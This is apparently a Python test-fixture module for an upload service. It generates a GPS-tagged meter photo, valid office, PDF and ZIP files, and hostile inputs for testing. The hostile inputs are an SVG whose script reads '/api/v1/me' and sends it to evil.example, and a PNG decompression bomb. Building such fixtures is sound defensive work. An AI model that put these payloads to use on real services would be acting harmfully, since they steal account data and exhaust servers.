"""Uploads for tests and benchmarks: a phone photo of a meter with GPS in its EXIF, and the bad
inputs of issue 15 (a bomb, an SVG with script, a fake JPEG) next to real office files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import ExifTags, Image, ImageDraw, ImageFilter, ImageFont

FIXTURES = Path(__file__).parent / "fixtures"
METER_PHOTO = FIXTURES / "meter-gps.jpg"  # 3024×4032 portrait, stored landscape + Orientation 6

# Hafenstraße, Hamburg St. Pauli: where the technician stood (a customer's home, in real life).
HAFENSTRASSE_LAT = (53.0, 32.0, 44.9)  # degrees, minutes, seconds north
HAFENSTRASSE_LON = (9.0, 57.0, 41.3)  # degrees, minutes, seconds east
PHONE_JPEG_QUALITY = 90  # what phone cameras write: big files, the reason to re-encode


def meter_jpeg(
    width: int = 3024, height: int = 4032, *, orientation: int = 6, grain: float = 12
) -> bytes:
    """Return a phone-like JPEG of an electricity meter, `width`×`height` as displayed.

    With orientation 6 the pixels are stored turned 90° to the left, as a phone held upright
    stores them, and the EXIF tells the viewer to turn them back.
    """
    image = _draw_meter(width, height, grain)
    if orientation == 6:
        image = image.transpose(Image.Transpose.ROTATE_90)
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Apple"
    exif[ExifTags.Base.Model] = "iPhone 15"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Software] = "17.5.1"
    exif[ExifTags.Base.DateTime] = "2026:11:30 09:41:07"
    exif_ifd = exif.get_ifd(ExifTags.IFD.Exif)
    exif_ifd[ExifTags.Base.DateTimeOriginal] = "2026:11:30 09:41:07"
    exif_ifd[ExifTags.Base.LensModel] = "iPhone 15 back camera 6.1mm f/1.6"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = HAFENSTRASSE_LAT
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = HAFENSTRASSE_LON
    gps[ExifTags.GPS.GPSAltitudeRef] = b"\x00"
    gps[ExifTags.GPS.GPSAltitude] = 7.5
    out = io.BytesIO()
    image.save(out, "JPEG", quality=PHONE_JPEG_QUALITY, exif=exif, comment=b"Hafenstrasse 112")
    return out.getvalue()


def _draw_meter(width: int, height: int, grain: float = 12) -> Image.Image:
    """Draw a grey meter box on a lit wall, its display showing a reading and an error."""
    unit = min(width, height) / 1000  # drawing coordinates scale with the photo
    wall = Image.linear_gradient("L").resize((width, height)).rotate(25, expand=False)
    image = Image.merge(
        "RGB",
        (
            wall.point(lambda v: 150 + v // 3),
            wall.point(lambda v: 140 + v // 3),
            wall.point(lambda v: 120 + v // 4),
        ),
    )
    draw = ImageDraw.Draw(image)
    box = (int(150 * unit), int(height * 0.22), width - int(150 * unit), int(height * 0.78))
    draw.rounded_rectangle(box, radius=int(40 * unit), fill=(205, 208, 210), outline=(90, 92, 95),
                           width=int(8 * unit))  # fmt: skip
    left, top, right, bottom = box
    screen = (left + int(90 * unit), top + int(110 * unit), right - int(90 * unit),
              top + int(400 * unit))  # fmt: skip
    draw.rectangle(screen, fill=(118, 140, 96), outline=(40, 40, 40), width=int(6 * unit))
    digits = ImageFont.load_default(size=int(120 * unit))
    label = ImageFont.load_default(size=int(38 * unit))
    draw.text((screen[0] + int(40 * unit), screen[1] + int(40 * unit)), "04712.8",
              font=digits, fill=(25, 30, 20))  # fmt: skip
    draw.text((screen[0] + int(40 * unit), screen[3] - int(65 * unit)), "Err 04  kWh",
              font=label, fill=(25, 30, 20))  # fmt: skip
    for row in range(4):  # the printed label plate: lines of small text
        draw.text((left + int(100 * unit), top + int((480 + row * 60) * unit)),
                  f"DZ-{4711 + row}  230/400 V  10(60) A",
                  font=label, fill=(50, 50, 55))  # fmt: skip
    cable_y = bottom - int(40 * unit)
    for i, colour in enumerate([(30, 30, 30), (120, 70, 30), (40, 90, 160), (200, 180, 40)]):
        x = left + int((200 + i * 120) * unit)
        draw.line([(x, cable_y), (x + int(60 * unit), height)], fill=colour, width=int(40 * unit))
    # Sensor noise (`grain`: its standard deviation) and a slight blur, as a camera gives; more
    # grain, more bytes: 12 keeps the fixture small, 150 makes a 12 MP photo as big as a phone's.
    noise = Image.effect_noise((width, height), grain).convert("RGB")
    return Image.blend(image, noise, 0.06).filter(ImageFilter.GaussianBlur(1.2))


def gps_of(jpeg: bytes) -> dict[str, object] | None:
    """Return the GPS tags of an image by name, or None when it has none."""
    with Image.open(io.BytesIO(jpeg)) as im:
        gps = im.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        xmp = im.info.get("xmp", b"")
    found: dict[str, object] = {ExifTags.GPSTAGS.get(k, str(k)): v for k, v in gps.items()}
    if b"GPSLatitude" in (xmp if isinstance(xmp, bytes) else str(xmp).encode()):
        found["xmp"] = True
    return found or None


def make_heic(width: int, height: int) -> bytes:
    """Return a HEIC photo as an iPhone sends it; skip the test when no encoder is built in."""
    import pillow_heif

    if not pillow_heif.libheif_info().get("HEIF"):
        pytest.skip("pillow-heif has no HEVC encoder here")
    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    _draw_meter(width, height).save(out, "HEIF", quality=70)
    return out.getvalue()


def decompression_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """Return a small PNG whose header declares `width`×`height` pixels (900 MP by default).

    Only the first rows' data is there: a decoder that trusted the header would allocate the
    whole (900 MB) before finding out; the server must refuse from the header alone.
    """
    rows = (b"\x00" + bytes(width)) * 16  # filter byte + one grey byte per pixel, all zero
    return b"".join(
        [
            b"\x89PNG\r\n\x1a\n",
            _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)),
            _png_chunk(b"IDAT", zlib.compress(rows, 9)),
            _png_chunk(b"IEND", b""),
        ]
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def svg_with_script() -> bytes:
    """Return an SVG image that would run a script if served as a page."""
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon("
        b"'https://evil.example/',t))</script><rect width='10' height='10'/></svg>\n"
    )


def fake_jpeg() -> bytes:
    """Return text that a name ("meter.jpg") and a claimed type would call a JPEG."""
    return b"This is not a photo, just text pretending to be one.\n" * 20


def png_with_alpha(width: int = 300, height: int = 200) -> bytes:
    """Return a PNG with a transparent background (a logo, a screenshot cut-out)."""
    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    ImageDraw.Draw(image).ellipse((20, 20, width - 20, height - 20), fill=(200, 30, 30, 255))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def animated_gif(frames: int = 3) -> bytes:
    """Return an animated GIF whose first frame is red."""
    colours = [(255, 0, 0), (0, 255, 0), (0, 0, 255)]
    images = [Image.new("RGB", (120, 80), colours[i % 3]) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=100, loop=0)
    return out.getvalue()


_OOXML_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument."
             "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument."
             "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument."
             "presentationml.presentation.main+xml"),
}  # fmt: skip


def ooxml(kind: str = "docx", main_type: str = "") -> bytes:
    """Return a minimal Office Open XML file ("docx", "xlsx" or "pptx"); `main_type` replaces
    its main part's content type (a macro-enabled .docm's, a template's)."""
    part, content_type = _OOXML_MAIN[kind]
    content_type = main_type or content_type
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://'
            'schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
            f'Extension="xml" ContentType="application/xml"/><Override PartName="/{part}" '
            f'ContentType="{content_type}"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="'
            'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
            ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'officeDocument" Target="{part}"/></Relationships>',
        )
        z.writestr(
            "word/document.xml" if kind == "docx" else part,
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="'
            'http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
            "<w:t>Zählerstand 04712.8</w:t></w:r></w:p></w:body></w:document>",
        )
    return out.getvalue()


def docx() -> bytes:
    """Return a minimal valid Word document."""
    return ooxml("docx")


def odf(kind: str = "odt") -> bytes:
    """Return a minimal OpenDocument file ("odt", "ods" or "odp"): `mimetype` stored first."""
    sub = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}[kind]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", f"application/vnd.oasis.opendocument.{sub}")
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:'
            'oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
            'manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
            f'{sub}"/></manifest:manifest>',
            zipfile.ZIP_DEFLATED,
        )
        z.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
    return out.getvalue()


def plain_zip() -> bytes:
    """Return a ZIP archive that is no office file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("readme.txt", "hello")
    return out.getvalue()


def pdf() -> bytes:
    """Return a minimal valid one-page PDF."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def ole2(stream: str = "WordDocument") -> bytes:
    """Return the start of an old Office (OLE2 compound) file: its header, and a directory entry
    naming `stream` ("WordDocument": .doc, "Workbook": .xls, "PowerPoint Document": .ppt)."""
    entry = (stream + "\0").encode("utf-16-le").ljust(64, b"\0") + bytes(64)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + bytes(512) + entry
